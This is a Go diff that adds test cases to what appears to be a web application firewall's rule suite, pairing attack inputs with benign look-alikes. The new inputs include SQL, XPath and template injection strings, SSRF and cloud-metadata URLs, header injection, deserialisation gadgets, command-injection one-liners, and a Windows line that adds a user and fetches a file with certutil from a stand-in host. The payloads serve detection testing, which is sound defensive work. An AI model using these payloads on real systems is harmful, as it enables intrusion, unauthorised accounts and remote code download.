@@ -59,6 +59,11 @@ func on(prefix string, list ...ruleRequest) []ruleRequest {
 func ownRuleCases() []ruleCase {
 	const metadata = "http://169.254.169.254/latest/meta-data/"
 	return []ruleCase{
+		{190111, []ruleRequest{inQuery(`\' or 1=1-- -`), formBody("a", "1` or 1=1")}, []ruleRequest{formBody("a", `It\'s one or 1`), formBody("a", "`a` or `b`")}},
+		{190111, []ruleRequest{inQuery("admin' #"), jsonBody(`{"a":"admin'/*"}`)}, []ruleRequest{inQuery("admin's #1")}},
+		{190115, []ruleRequest{inQuery("' or count(/*)=1 or '1'='2"), formBody("a", "'] | //user/* | a['")}, []ruleRequest{inQuery("count the names")}},
+		{190116, []ruleRequest{inQuery("http://127.1/"), jsonBody(`{"u":"http://0x7f.0.0.1/"}`), formBody("u", "dict://127.0.0.1:11211/stat"), inQuery("//198.51.100.7/x")}, []ruleRequest{inQuery("https://www.example.com/127.1"), inQuery("//cdn.example.com/a.js")}},
+		{190117, []ruleRequest{inQuery("x%0d%0aLocation: http://e/"), formBody("to", "ann@example.com\nBcc: bob@example.com")}, []ruleRequest{formBody("to", "ann@example.com\nbob@example.com"), inQuery("Location: Berlin")}},
 		{190112, []ruleRequest{
 			inQuery(metadata), formBody("u", metadata), jsonBody(`{"a":{"u":"` + metadata + `"}}`), inHeader("Cookie", "u="+metadata), toPath("/proxy/169.254.169.254/latest/"),
 			xmlBody("<a b=\"" + metadata + "\"/>"), inQuery("http://169.254.170.23/v1/credentials"), inQuery("http://0xa9fea9fe/"), inQuery("http://2852039166/x"), inQuery("//[fd00:ec2::254]/latest"),
@@ -88,6 +93,7 @@ func ownRuleCases() []ruleCase {
 			[]ruleRequest{inQuery("{% if request.application.__globals__ %}"), formBody("name", "{{cycler.__init__.__globals__.os}}"), inQuery(`{{['id']|map('system')}}`), inQuery(`{{ x | attr("a") }}`)},
 			[]ruleRequest{formBody("text", "{% for item in items %}<li>{{ item }}</li>{% endfor %}"), formBody("text", "In Python, x.__class__ is the type of x.")},
 		},
+		{190210, []ruleRequest{partBody(`name="f"; filename="a.aspx"`, "x"), partBody(`name="f"; filename="a.php/"`, "x")}, []ruleRequest{partBody(`name="f"; filename="a.php.png"`, "x"), partBody(`name="f"; filename="a.asp.md"`, "x")}},
 		{190300, []ruleRequest{{path: "/x", host: "localhost"}, {path: "/x", host: "127.0.0.1"}}, []ruleRequest{{path: "/x", host: "localhost.example.test"}}},
 		{
 			190310,
@@ -114,6 +120,11 @@ func ownRuleCases() []ruleCase {
 			[]ruleRequest{toPath("/x?user__password__startswith=a"), toPath("/x?filter[password][contains]=a"), jsonBody(`{"where":{"resetToken":{"startsWith":"a"}}}`), toPath("/x?q[reset_password_token_start]=a")},
 			[]ruleRequest{toPath("/x?name__startswith=a"), jsonBody(`{"where":{"key":{"contains":"menu."}}}`), toPath("/x?price[gte]=5"), formBody("password", "correct horse")},
 		},
+		{190340, []ruleRequest{inQuery("%{#context['xwork']=1}")}, []ruleRequest{inQuery("%{context}"), inQuery("colour #a=b")}},
+		{190351, []ruleRequest{inQuery("!!python/object/apply:os.system ['id']"), formBody("o", "cos\nsystem\n(S'id'\ntR.")}, []ruleRequest{inQuery("!! python"), formBody("o", "gASdAAAAAAAA")}},
+		{190352, []ruleRequest{jsonBody(`{"@type":"com.sun.rowset.JdbcRowSetImpl"}`)}, []ruleRequest{jsonBody(`{"@type":"Person","@class":"a.b.C"}`)}},
+		{190353, []ruleRequest{{path: "/x", kind: "application/octet-stream", body: "\xac\xed\x00\x05sr"}}, []ruleRequest{{path: "/x", kind: "application/octet-stream", body: "\xac\x00\xed\x05"}}},
+		{190361, []ruleRequest{inQuery("global.process.exit()"), jsonBody(`{"a":"Function('return process')()"}`)}, []ruleRequest{inQuery("a global process of change")}},
 		{190370, []ruleRequest{
 			partBody(`name="0"`, `{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"_response":{"_prefix":"x","_formData":{"get":"$1:constructor:constructor"}}}`),
 			partBody(`name="0"`, `{"a":"$1:a:\u0063onstructor:x"}`), jsonBody(`["$1:constructor:constructor"]`),
@@ -139,7 +150,10 @@ func ownRuleCases() []ruleCase {
 			[]ruleRequest{inQuery(`("cat" is a word)`), formBody("t", "it's a dog; 'cat' is next"), formBody("t", `\section{Heads and tails} more`), jsonBody(`{"csv":"\"id\";\"name\"\n\"1\";\"cat\"\n"}`)},
 		},
 		{190710, []ruleRequest{inQuery(";c$@at /etc/hosts"), inQuery("`wh$*oami`")}, []ruleRequest{inQuery("it costs (US$5)"), formBody("t", "price a$5b")}},
+		{190720, []ruleRequest{inQuery(";id"), formBody("h", "127.0.0.1|id"), inQuery("`id`")}, []ruleRequest{inQuery("name;id"), formBody("h", "the `id` column"), inQuery("user|id")}},
+		{190730, []ruleRequest{toPath("/a/$(id)"), toPath("/a/%60id%60/b")}, []ruleRequest{toPath("/Products(1)/$count"), toPath("/a/$metadata")}},
 		{190800, []ruleRequest{inHeader("X-Doc", "<?php system('id'); ?>"), inHeader("User-Agent", "<?=`id`?>")}, []ruleRequest{inHeader("X-Doc", "<?xml version='1.0'?>")}},
+		{190900, []ruleRequest{inQuery("cmd.exe /c whoami"), formBody("a", "; net user eve pass /add"), inQuery("& certutil -urlcache -f http://e.example/x")}, []ruleRequest{inQuery("net users and gross users"), inQuery("cmd or ctrl")}},
 	}
 }
 
